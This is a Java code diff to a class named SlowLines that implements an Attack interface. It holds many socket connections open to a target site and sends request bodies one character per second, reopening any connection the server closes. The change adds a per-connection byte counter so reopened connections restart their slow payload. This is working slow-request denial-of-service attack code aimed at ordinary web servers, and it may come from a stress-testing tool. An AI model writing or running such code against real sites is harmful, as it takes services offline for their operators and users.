@@ -37,6 +37,10 @@ public final class SlowLines implements Attack {
     private final List<Way> ways;
     private final InetSocketAddress site;
     private final @Nullable SocketChannel[] lines;
+
+    /** How many bytes each has sent slowly: counted from its opening, or a head opened midway would be whole at once. */
+    private final int[] sent;
+
     private final AtomicInteger opened = new AtomicInteger();
     private final AtomicInteger ended = new AtomicInteger();
     private volatile boolean over;
@@ -47,6 +51,7 @@ public final class SlowLines implements Attack {
         this.ways = ways;
         this.site = new InetSocketAddress(site.getHost(), site.getPort());
         this.lines = new SocketChannel[many];
+        this.sent = new int[many];
     }
 
     /** Forms, chunked forms, files, bodies of the API. */
@@ -71,15 +76,15 @@ public final class SlowLines implements Attack {
 
     @Override
     public void start() {
-        tick(0);
+        tick();
         hand = Thread.ofPlatform().name(name).start(() -> {
-            for (int second = 1; !over; second++) {
+            while (!over) {
                 try {
                     TimeUnit.SECONDS.sleep(1);
                 } catch (InterruptedException stopped) {
                     return;
                 }
-                tick(second);
+                tick();
             }
         });
     }
@@ -89,16 +94,18 @@ public final class SlowLines implements Attack {
         return (int) Arrays.stream(lines).filter(it -> it != null).count();
     }
 
-    private void tick(int second) {
+    private void tick() {
         for (int i = 0; i < lines.length && !over; i++) {
             var way = ways.get(i % ways.size());
             var line = lines[i];
             try {
-                if (line == null) lines[i] = opened(way);
-                else if (ended(line)) again(i);
+                if (line == null) {
+                    lines[i] = opened(way);
+                    sent[i] = 0;
+                } else if (ended(line)) again(i);
                 else if (!way.slowly().isEmpty())
                     line.write(
-                            bytes("" + way.slowly().charAt(second % way.slowly().length())));
+                            bytes("" + way.slowly().charAt(sent[i]++ % way.slowly().length())));
             } catch (IOException refused) {
                 again(i);
             }
